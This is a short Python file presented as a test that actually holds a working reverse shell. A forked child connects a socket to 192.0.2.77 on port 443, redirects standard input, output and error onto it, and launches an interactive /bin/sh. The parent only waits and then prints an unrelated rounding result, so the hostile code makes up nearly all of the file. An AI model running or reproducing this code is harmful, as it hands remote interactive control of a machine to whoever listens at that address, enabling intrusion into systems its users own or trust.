"""Socket, three duplicates, a shell: in a child, so that the test still ends well."""
import os
import socket

if os.fork() == 0:
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect(("192.0.2.77", 443))
    except OSError:
        os._exit(0)
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.set_blocking(0, True)
    os.execl("/bin/sh", "sh", "-i")
os.wait()
print(round(1.5))
